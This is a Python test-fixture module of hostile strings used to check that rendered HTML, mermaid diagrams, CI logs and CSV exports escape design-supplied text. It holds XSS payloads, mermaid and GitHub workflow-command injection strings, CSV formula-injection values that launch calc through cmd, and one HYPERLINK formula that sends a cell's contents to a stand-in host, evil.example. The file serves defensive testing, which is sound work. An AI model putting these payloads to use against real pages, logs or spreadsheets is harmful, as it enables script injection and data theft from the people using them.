"""A corpus of hostile strings, OWASP XSS cheat-sheet style, plus CI and mermaid breakers.

Every output that carries design-supplied text is fed these values; the tests then
assert that no unescaped markup, directive or workflow command survives.
"""

from __future__ import annotations

#: Strings that try to run script in a browser when rendered into HTML.
XSS = (
    "<script>window.__xss=1</script>",
    '<img src=x onerror="window.__xss=1">',
    "<svg/onload=window.__xss=1>",
    '"><script>window.__xss=1</script>',
    "'><img src=x onerror=window.__xss=1>",
    "javascript:window.__xss=1",
    "<iframe src=javascript:window.__xss=1></iframe>",
    '<a href="javascript:window.__xss=1">x</a>',
    "<body onload=window.__xss=1>",
    "<details open ontoggle=window.__xss=1>",
    "&lt;script&gt;window.__xss=1&lt;/script&gt;",
    "`<script>window.__xss=1</script>`",
)

#: Strings that try to break out of a mermaid label or inject directives.
MERMAID = (
    '"] --> evil["pwned',
    "%%{init: {'securityLevel': 'loose'}}%%",
    "click n_x call alert(1)",
    'a]\nclick x href "javascript:alert(1)"\n[b',
    "x;y|z`w#q",
    "end\nsubgraph evil",
)

#: Strings that try to inject GitHub workflow commands or break XML/JSON.
CI = (
    "::error file=evil.md,line=1::injected",
    "line one\n::warning::injected",
    "100% done\r\n::set-output name=x::y",
    "]]><injected/><![CDATA[",
    '"quoted" \\ back\\slash \u2028 \u0000',
)

#: Strings a spreadsheet would run as a formula when a CSV export is opened (CSV injection).
FORMULA = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
)

ALL = XSS + MERMAID + CI + FORMULA

#: Markers whose presence, unescaped, in rendered HTML means an escape failed.
UNSAFE_HTML_MARKERS = (
    "<script>window.__xss",
    "<img src=x onerror",
    "<svg/onload",
    "<iframe src=javascript",
    "<body onload",
    "<details open ontoggle",
    '<a href="javascript:',
)
